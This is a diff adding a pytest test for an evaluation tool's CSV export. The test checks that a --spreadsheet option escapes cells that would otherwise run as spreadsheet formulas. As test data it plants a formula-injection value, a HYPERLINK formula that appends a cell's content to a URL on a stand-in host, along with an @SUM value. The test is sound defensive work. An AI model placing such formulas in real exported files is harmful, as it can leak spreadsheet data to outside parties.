@@ -226,3 +226,36 @@ def test_load_run_warns_of_archived_evaluations_it_cannot_read(tmp_path: Path) -
     with pytest.warns(UserWarning, match=rf"1 archived .*{shard.name}:1"):
         loaded = assay.load_run(run)
     assert len(loaded.records) == 7 and len(loaded.unreadable) == 1
+
+
+def test_spreadsheet_csv_writes_would_be_formulas_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A question or answer starting with = + - @ is a formula to a spreadsheet (it can fetch
+    a URL or run a command); --spreadsheet writes such a cell as text, numbers as they were.
+    Without it the values are exact, for pandas and comparison with results.jsonl."""
+    formula = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
+    records = verify_only_records(6)
+    records[0]["question"] = formula
+    records[1]["answer"] = "@SUM(1+1) is what the page says [cite:p1]"
+    data = write_jsonl(tmp_path / "data.jsonl", records)
+    run = tmp_path / "run"
+    args = ["bench", "run", "--data", str(data), "--pattern", "entailment", "--out_dir", str(run)]
+    assert main([*args, "--verifier", "lexical", "--no-progress", "--no-report"]) == 0
+    exact, safe = tmp_path / "exact.csv", tmp_path / "safe.csv"
+    assert main(["export", str(run), "--out", str(exact)]) == 0
+    assert main(["export", str(run), "--out", str(safe), "--spreadsheet"]) == 0
+    exact_rows, safe_rows = _csv_rows(exact), _csv_rows(safe)
+    assert exact_rows[0]["question"] == formula  # exact by default
+    by_id = {row["id"]: row for row in safe_rows}
+    assert by_id["v0"]["question"] == "'" + formula
+    assert by_id["v1"]["selected_answer"].startswith("'@SUM(1+1)")
+    cells = [value for row in safe_rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+    for before, after in zip(exact_rows, safe_rows, strict=True):  # every other cell unchanged
+        changed = {k for k in before if before[k] != after[k]}
+        assert all(after[k] == "'" + before[k] for k in changed)
+        assert all(not before[k][:1].isdigit() for k in changed)
+    capsys.readouterr()
+    code = main(["export", str(run), "--out", str(tmp_path / "x.jsonl"), "--spreadsheet"])
+    assert code == 2 and "--spreadsheet applies to CSV" in capsys.readouterr().err
